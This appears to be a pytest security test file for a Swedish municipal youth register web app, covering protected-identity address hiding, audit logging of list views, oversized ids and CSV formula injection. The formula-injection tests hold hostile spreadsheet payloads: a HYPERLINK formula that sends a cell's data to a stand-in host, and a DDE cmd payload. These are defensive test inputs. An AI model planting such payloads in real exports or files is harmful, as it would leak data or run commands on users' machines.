"""Attacks on the register pages: protected identities, formula injection in exports, list reads
that must be logged per person, and ids past the databases' integer range."""

import csv
import io
from datetime import timedelta
from html.parser import HTMLParser

import pytest
from sqlmodel import select

from kaa_web.models.audit import AuditEvent
from kaa_web.models.base import local_today
from kaa_web.models.register import Guardian, Youth
from kaa_web.models.tasks import Task
from kaa_web.rules import personnummer as pnr

SECRET = ("Hemliga vägen 1", "987 65", "Gömstad", "Skyddsgatan 2", "Dolda orten")
HUGE = "9" * 25


class _FormParser(HTMLParser):
    """What a browser sends for a page's form: inputs, checked boxes, selected options."""

    def __init__(self, action: str):
        super().__init__()
        self.action, self.inside, self.fields, self.select = action, False, {}, None

    def handle_starttag(self, tag, attrs):
        a = dict(attrs)
        if tag == "option" and self.select and "selected" in a:
            self.fields[self.select] = a.get("value", "")
        elif tag == "form":
            self.inside = a.get("action", "") in ("", self.action) and a.get("method") == "post"
        elif not self.inside or "name" not in a:
            return
        elif tag == "input" and a.get("type") == "checkbox":
            if "checked" in a:
                self.fields[a["name"]] = a.get("value", "y")
        elif tag == "input" and a.get("type") != "submit":
            self.fields[a["name"]] = a.get("value", "")
        elif tag == "select":
            self.select = a["name"]
            self.fields.setdefault(self.select, "")

    def handle_endtag(self, tag):
        if tag == "form":
            self.inside = False
        elif tag == "select":
            self.select = None


def submitted(page: str, action: str = "") -> dict:
    parser = _FormParser(action)
    parser.feed(page)
    return parser.fields


def events(db_session, **where):
    query = select(AuditEvent)
    for name, value in where.items():
        query = query.where(getattr(AuditEvent, name) == value)
    return db_session.exec(query.order_by(AuditEvent.id)).all()


@pytest.fixture
def protected(make_youth, db_session):
    youth = make_youth(
        "Skyddad",
        "Person",
        birth_date=local_today() - timedelta(days=16 * 365 + 100),
        protected_identity=True,
        street_address=SECRET[0],
        postal_code=SECRET[1],
        city=SECRET[2],
        phone="070-123 45 67",
    )
    db_session.add(
        Guardian(
            youth_id=youth.id,
            name="Vera Person",
            street_address=SECRET[3],
            postal_code=SECRET[1],
            city=SECRET[4],
        )
    )
    db_session.commit()
    return youth


# --- F2: a protected identity ----------------------------------------------------------------


def test_the_edit_form_of_a_protected_person_holds_no_address_for_arbetsmarknad(
    login_as, staff, protected
):
    page = login_as("arbetsmarknad").get(f"/ungdomar/{protected.id}/redigera")
    body = page.get_data(as_text=True)
    assert page.status_code == 200
    assert not [s for s in SECRET if s in body]
    assert "Adressen (även vårdnadshavarnas) är skyddad" in body
    assert 'name="protected_identity"' not in body  # only KAA may change the protection
    kaa_page = login_as("kaa").get(f"/ungdomar/{protected.id}/redigera").get_data(as_text=True)
    assert all(s in kaa_page for s in SECRET) and 'name="protected_identity"' in kaa_page


def test_a_save_by_arbetsmarknad_keeps_protection_and_addresses_and_chef_sees_none(
    login_as, staff, protected, db_session
):
    officer = login_as("arbetsmarknad")
    url = f"/ungdomar/{protected.id}/redigera"
    form = submitted(officer.get(url).get_data(as_text=True))
    assert "protected_identity" not in form  # the box is not on the page
    form.update(phone="070-765 43 21", street_address="Påhittad väg 9", guardian1_city="X")
    response = officer.post(url, data=form)
    assert response.status_code == 303
    db_session.expire_all()
    stored = db_session.get(Youth, protected.id)
    assert stored.protected_identity and stored.phone == "070-765 43 21"
    assert (stored.street_address, stored.postal_code, stored.city) == SECRET[:3]
    guardian = db_session.exec(select(Guardian).where(Guardian.youth_id == protected.id)).one()
    assert (guardian.name, guardian.street_address, guardian.city) == (
        "Vera Person",
        SECRET[3],
        SECRET[4],
    )
    person_page = login_as("chef").get(f"/ungdomar/{protected.id}").get_data(as_text=True)
    assert not [s for s in SECRET if s in person_page]


def test_a_crafted_protection_change_by_arbetsmarknad_is_refused(
    login_as, staff, make_youth, db_session
):
    youth = make_youth("Öppen", "Person", street_address="Synliga gatan 3")
    officer = login_as("arbetsmarknad")
    url = f"/ungdomar/{youth.id}/redigera"
    form = submitted(officer.get(url).get_data(as_text=True))
    officer.post(url, data={**form, "protected_identity": "y"})
    db_session.expire_all()
    assert not db_session.get(Youth, youth.id).protected_identity
    assert events(db_session, action="protection_set") == []


def test_kaa_clearing_and_setting_the_protection_are_audit_actions_of_their_own(
    login_as, staff, protected, db_session
):
    kaa = login_as("kaa")
    url = f"/ungdomar/{protected.id}/redigera"
    form = submitted(kaa.get(url).get_data(as_text=True))
    assert form.pop("protected_identity") == "y"
    assert kaa.post(url, data=form).status_code == 303  # the box unticked: cleared
    form = submitted(kaa.get(url).get_data(as_text=True))
    assert kaa.post(url, data={**form, "protected_identity": "y"}).status_code == 303
    changes = [
        (e.action, e.youth_id, e.username)
        for e in events(db_session)
        if e.action.startswith("protection")
    ]
    assert changes == [
        ("protection_cleared", protected.id, "kaa"),
        ("protection_set", protected.id, "kaa"),
    ]


def test_the_conflict_box_shows_no_protected_address_to_arbetsmarknad(
    login_as, staff, protected, db_session
):
    officer = login_as("arbetsmarknad")
    url = f"/ungdomar/{protected.id}/redigera"
    form = submitted(officer.get(url).get_data(as_text=True))
    kaa = login_as("kaa")
    kaa_form = submitted(kaa.get(url).get_data(as_text=True))
    assert kaa.post(url, data={**kaa_form, "street_address": "Ny hemlig väg 4"}).status_code == 303
    clash = officer.post(url, data={**form, "phone": "070-000 00 00"})
    body = clash.get_data(as_text=True)
    assert clash.status_code == 409 and "Någon annan har sparat" in body
    assert "Ny hemlig väg 4" not in body and not [s for s in SECRET if s in body]
    assert 'value="070-000 00 00"' in body


def test_only_kaa_is_offered_the_protection_when_registering(login_as, staff):
    assert 'name="protected_identity"' in login_as("kaa").get("/ungdomar/ny").get_data(True)
    page = login_as("arbetsmarknad").get("/ungdomar/ny").get_data(as_text=True)
    assert 'name="protected_identity"' not in page and "KAA-handläggare" in page


# --- F5: formula injection and control characters --------------------------------------------


def test_the_export_neutralises_cells_that_would_be_formulas(
    login_as, staff, make_youth, db_session
):
    make_youth('=HYPERLINK("http://evil.example/?"&A1;"Klicka")', "@SUM(1+1)")
    make_youth("+46", "-2+3")
    response = login_as("kaa").get("/ungdomar/export.csv?status=aktiv")
    rows = list(
        csv.reader(
            io.StringIO(response.get_data(as_text=True).lstrip("\ufeff")), "excel", delimiter=";"
        )
    )
    names = sorted((r[1], r[2]) for r in rows[1:])
    assert names == [
        ("'+46", "'-2+3"),
        ('\'=HYPERLINK("http://evil.example/?"&A1;"Klicka")', "'@SUM(1+1)"),
    ]
    assert all(not cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)


@pytest.mark.parametrize("name", ["Ann\x1b[31mika", "Tab\tbar", "Rad\rbrytning", "Vänd\u202etxt"])
def test_the_register_form_refuses_control_characters_in_names(login_as, staff, db_session, name):
    number = pnr.make_valid(local_today() - timedelta(days=6400), 556)
    response = login_as("kaa").post_form(
        "/ungdomar/ny",
        {
            "personnummer": number,
            "first_name": name,
            "last_name": "Nord",
            "registration_reason": "aldrig_borjat",
            "registration_source": "egen_kontakt",
        },
    )
    assert response.status_code == 400
    assert "styrtecken" in response.get_data(as_text=True)
    assert db_session.exec(select(Youth)).all() == []


def test_a_school_report_refuses_control_characters_in_names(login_as, staff, db_session):
    from kaa_web.demo import seed_schools
    from kaa_web.models.school_reports import SchoolReport, SchoolUnit

    seed_schools(db_session)
    db_session.commit()
    unit = db_session.exec(select(SchoolUnit).where(SchoolUnit.code == "90000001")).one()
    school = login_as("skola")
    page = school.get(school.url("school_reports.form", kind="studiebevis")).get_data(as_text=True)
    form = submitted(page)
    number = pnr.make_valid(local_today() - timedelta(days=17 * 365 + 40), 312)
    form.update(
        school_unit_id=str(unit.id),
        contact_name="Sara Lund",
        contact_phone="010-123 40 01",
        rows=f"{number};=cmd|'/c calc'!A0\x07;Exempelsson;Ekonomi",
    )
    response = school.post(school.url("school_reports.form", kind="studiebevis"), data=form)
    assert response.status_code == 400
    assert "förnamnet får inte innehålla styrtecken" in response.get_data(as_text=True)
    assert db_session.exec(select(SchoolReport)).all() == []


# --- F7: every person a list shows is logged -------------------------------------------------


def about_people(db_session, action: str, object_type: str) -> list:
    """The events of `action` on `object_type` that name a young person."""
    return [e for e in events(db_session, action=action, object_type=object_type) if e.youth_id]


def test_the_list_and_a_search_log_each_person_shown(login_as, staff, make_youth, db_session):
    shown = {make_youth(f"Lista{n}", "Exempel").id for n in range(3)}
    kaa = login_as("kaa")
    kaa.get(kaa.url("register.index"))
    assert {e.youth_id for e in about_people(db_session, "view", "youth_list")} == shown
    assert events(db_session, object_type="youth") == []  # a list row is not a record read
    found = make_youth("Unik", "Sökbar").id
    kaa.post_form(kaa.url("register.search"), {"search": "sökbar", "status": "aktiv"})
    searched = about_people(db_session, "search", "youth_list")
    assert [(e.youth_id, e.object_id, e.username) for e in searched] == [(found, str(found), "kaa")]
    assert len(events(db_session, action="search")) == 2  # the search itself, and who it found


def test_the_worklist_logs_each_person_and_task_it_shows(login_as, staff, make_youth, db_session):
    due = make_youth(
        "Sen", "Brev", registered_on=local_today() - timedelta(days=40), officer_id=staff["kaa"].id
    )
    later = make_youth("Ej", "Synlig", officer_id=staff["kaa"].id)  # nothing due for 20 days
    about = make_youth("Möte", "Skola")
    db_session.add(
        Task(
            kind="mote_skola",
            title="Möte med skolan",
            due=local_today(),
            youth_id=about.id,
            assigned_to=staff["kaa"].id,
        )
    )
    db_session.commit()
    assert "Sen Brev" in login_as("kaa").get("/att-gora/").get_data(as_text=True)
    assert [e.youth_id for e in about_people(db_session, "view", "worklist")] == [due.id]
    assert [e.youth_id for e in about_people(db_session, "view", "task")] == [about.id]
    assert later.id not in {e.youth_id for e in events(db_session)}


def test_the_export_logs_each_person_exported(login_as, staff, make_youth, db_session):
    exported = {make_youth(f"Export{n}", "Exempel").id for n in range(3)}
    gone = make_youth("Avslutad", "Exempel", status="avregistrerad").id
    response = login_as("chef").get("/ungdomar/export.csv?status=aktiv")
    assert response.get_data(as_text=True).count("\n") == 4
    logged = about_people(db_session, "export", "youth_list")
    assert {e.youth_id for e in logged} == exported and gone not in {e.youth_id for e in logged}
    assert {e.username for e in logged} == {"chef"}


# --- F16: ids past the integer range ---------------------------------------------------------


def test_a_person_id_past_the_integer_range_is_404(login_as, staff):
    kaa = login_as("kaa")
    assert kaa.get(kaa.url("register.person", youth_id=HUGE)).status_code == 404
    assert kaa.get("/ungdomar/2147483648").status_code == 404
    assert kaa.get("/ungdomar/2147483647").status_code == 404  # the largest id: not found


@pytest.mark.parametrize(
    ("url", "data"),
    [
        ("/ungdomar/tilldela", {"youth_ids": HUGE, "officer_id": ""}),
        ("/att-gora/markera-skickade", {"youth_ids": HUGE, "vy": "mina"}),
        ("/utskick/forhandsgranska", {"youth_ids": HUGE}),
        ("/utskick/", {"token": "t" * 32, "youth_ids": f"1,{HUGE}"}),
        ("/ungdomar/sok", {"search": "a", "sida": HUGE}),
    ],
)
def test_ids_past_the_integer_range_in_posts_are_refused_without_a_server_error(
    login_as, staff, url, data
):
    response = login_as("kaa").post_form(url, data)
    assert response.status_code in (200, 303, 400), response.status_code


def test_a_posted_id_list_is_capped(login_as, staff, make_youth, db_session):
    youth = make_youth()
    kaa = login_as("kaa")
    ids = [str(youth.id)] * 10_001
    response = kaa.post_form(kaa.url("worklist.mark_sent"), {"youth_ids": ids, "vy": "mina"})
    assert response.status_code == 303
    assert "högst 10 000" in kaa.get(response.location).get_data(as_text=True)
    assert events(db_session, action="update", youth_id=youth.id) == []


@pytest.mark.parametrize(
    "url",
    [
        f"/ungdomar/?sida={HUGE}",
        f"/admin/granskningslogg?youth_id={HUGE}",
        f"/admin/insatser?andra={HUGE}",
    ],
)
def test_numbers_past_the_integer_range_in_urls_are_no_server_error(login_as, staff, url):
    role = "kaa" if url.startswith("/ungdomar") else "admin"
    assert login_as(role).get(url).status_code in (200, 400)
